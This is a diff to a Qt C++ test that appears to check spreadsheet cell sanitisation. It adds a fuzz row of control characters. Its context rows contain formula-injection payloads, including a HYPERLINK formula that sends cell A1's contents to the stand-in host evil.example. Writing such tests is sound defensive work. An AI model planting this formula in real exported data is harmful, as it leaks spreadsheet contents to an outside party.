@@ -32,6 +32,7 @@ void hostileRows()
     QTest::addColumn<QByteArray>("text");
     const QList<QPair<const char*, QByteArray>> rows = {
         {"plain", "profile::ntp::servers"},
+        {"fuzz: vertical tab and form feed at the ends", "\vcell\f"},
         {"formula", "=1+2"},
         {"hyperlink formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
         {"plus", "+1"},
